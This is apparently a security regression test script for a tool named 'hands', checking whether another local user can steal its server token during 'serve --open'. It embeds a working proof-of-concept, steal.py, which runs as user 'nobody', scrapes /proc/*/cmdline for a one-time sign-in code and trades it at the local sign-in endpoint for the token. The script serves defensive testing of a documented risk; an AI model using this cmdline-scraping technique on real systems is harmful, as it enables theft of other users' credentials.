#!/bin/bash
RT_LIB="$(cd "$(dirname "$0")/../lib" && pwd)"
# hands serve --open: the one-time code is in the browser's command line until the page uses it.
# Another local user (nobody) reads it from /proc/*/cmdline and trades it first for the server token.
# Documented as a residual risk in docs/security.md; exit 1 while nobody gets the token this way.
set -u
HANDS_BIN="${HANDS_BIN:-${CARGO_TARGET_DIR:-$(cd "$(dirname "$0")/../../.." && pwd)/target}/debug/hands}"
id nobody >/dev/null 2>&1 || { echo "no nobody user"; exit 2; }
T=$(mktemp -d "${TMPDIR:-/tmp}/hands-rt4.XXXXXX"); chmod 755 "$T"
mkdir -p "$T/home/.config/hands" "$T/proj"; export HOME="$T/home"
unset XDG_CONFIG_HOME XDG_STATE_HOME XDG_DATA_HOME HANDS_STATE_DIR
printf '#!/bin/sh\nexec /usr/bin/python3 -c "import time; time.sleep(15)" "$@"\n' > "$T/br.sh"; chmod 755 "$T/br.sh"   # a browser slow to use the link
PORT=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])')
( cd "$T/proj" && BROWSER="$T/br.sh" exec timeout 40 "$HANDS_BIN" serve --listen 127.0.0.1:$PORT --open > "$T/serve.log" 2>&1 ) & SP=$!
trap 'kill $SP 2>/dev/null; rm -rf "$T"' EXIT
for i in $(seq 50); do curl -s -o /dev/null 127.0.0.1:$PORT/healthz && break; sleep 0.1; done; sleep 1
cat > "$T/steal.py" <<'P'
import os,re,sys,json,urllib.request
port=sys.argv[1]
for p in os.listdir('/proc'):
    if not p.isdigit(): continue
    try: cl=open('/proc/%s/cmdline'%p,'rb').read().decode('utf-8','replace')
    except Exception: continue
    m=re.search(r'127\.0\.0\.1:%s/#signin=([0-9a-f]+)'%port,cl)
    if m:
        r=urllib.request.Request('http://127.0.0.1:%s/v1/signin'%port,data=json.dumps({"code":m.group(1)}).encode(),headers={'Content-Type':'application/json'})
        try: print("GOT", urllib.request.urlopen(r,timeout=5).read().decode())
        except Exception as e: print("refused", e)
        break
else: print("no code found")
P
chmod 644 "$T/steal.py"
ps -eo pid,user,args | grep -v grep | grep "signin" | cut -c1-150
out=$(su nobody -s /bin/sh -c "python3 $T/steal.py $PORT" 2>&1); echo "as nobody: $out"
tok=$(cat "$HOME/.local/state/hands/server-token" 2>/dev/null)
if [ -n "$tok" ] && echo "$out" | grep -q "$tok"; then echo "HOLE: another local user got the server token from the browser's command line"; exit 1; fi
echo held; exit 0
